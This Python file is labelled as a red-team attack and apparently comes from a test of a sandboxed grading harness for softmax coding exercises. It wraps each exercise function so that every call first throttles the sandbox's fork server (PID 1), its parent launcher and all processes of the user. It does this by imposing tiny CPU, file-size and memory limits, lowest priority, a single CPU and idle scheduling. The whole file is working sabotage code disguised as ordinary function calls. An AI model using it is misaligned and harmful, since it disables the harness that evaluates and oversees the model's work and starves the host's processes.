# ---- red-team attack (instructor/redteam): everything below is the attack ----
_PART1 = ("naive_softmax", "safe_softmax", "online_summary", "online_softmax", "merge_summary", "merge_partial",
          "naive_softmax_counted", "safe_softmax_counted", "online_softmax_counted")


def _lower():
    """Every process this one may reach by its uid (the fork server is PID 1 of a bubblewrap sandbox,
    the launcher its parent elsewhere): a 1 MiB file size, 1 s of CPU, the lowest priority, one CPU."""
    import os
    import resource
    for pid in {1, os.getppid()}:
        for limit, value in ((resource.RLIMIT_FSIZE, 1 << 20), (resource.RLIMIT_CPU, 1),
                             (resource.RLIMIT_DATA, 64 << 20)):
            try:
                resource.prlimit(pid, limit, (value, value))
            except (OSError, ValueError):
                pass
        for change in (lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), lambda: os.sched_setaffinity(pid, {0}),
                       lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
            try:
                change()
            except (OSError, AttributeError):
                pass
    try:
        os.setpriority(os.PRIO_USER, 0, 19)  # every process of the uid
    except OSError:
        pass


def _first_lower(original):
    """The starter's function (it raises NotImplementedError), called after every attempt above."""
    return lambda *a, **k: (_lower(), original(*a, **k))[1]


for _name in _PART1:
    globals()[_name] = _first_lower(globals()[_name])
